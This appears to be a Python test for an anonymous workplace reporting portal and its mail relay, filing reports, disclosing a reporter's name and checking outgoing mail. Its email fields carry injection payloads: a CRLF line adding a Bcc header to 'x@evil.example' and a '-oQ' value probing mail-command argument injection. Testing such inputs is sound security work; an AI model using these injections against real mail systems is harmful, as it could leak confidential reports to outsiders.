import re, html
from test_mail_and_metrics import *  # noqa
from test_mail_and_metrics import stack  # noqa

def test_consequences(stack):
    service, relay = stack["service"], stack["relay"]
    service.hold_notices_job()
    advisor, _ = staff_login(service, ADVISOR[0], ADVISOR[1], secret=None) if False else (None, None)
    code = http_report(service, mode="anoniem", name="", email="", whatHappened="Er worden grappen gemaakt tijdens de lunch.")
    r = Client(service); r.get("/portaal"); r.post("/portaal", {"code": code}); r.get("/portaal/melding")
    print("disclose", r.post("/portaal/naam", {"name": "Noor", "email": "noor@example.org\r\nBcc: x@evil.example", "confirm": "ja"})[0])
    code2 = http_report(service, email="-oQ@example.org", whatHappened="Tweede verhaal over de lunch.")
    print("dash report", code2)
    # advisor: reuse the stack's secret? login fresh client with recovery? use the enrolled secret
    adv, _ = staff_login(service, ADVISOR[0], ADVISOR[1], secret=stack["advisor_secret"])
    _, inbox, _ = adv.get("/werkruimte")
    paths = sorted(set(re.findall(r'href="(/werkruimte/meldingen/[0-9A-Fa-f-]{36})"', inbox)))
    print(paths)
    for p in paths:
        if p != stack["case_path"]:
            reply(adv, p, "Bericht aan de melder.")
    print(mail_status(service))
    before = len(relay.received())
    print("send", mail_send(service), "relay got", len(relay.received()) - before)
    print(mail_status(service))
    print(service.cli("jobs", "status").stdout)
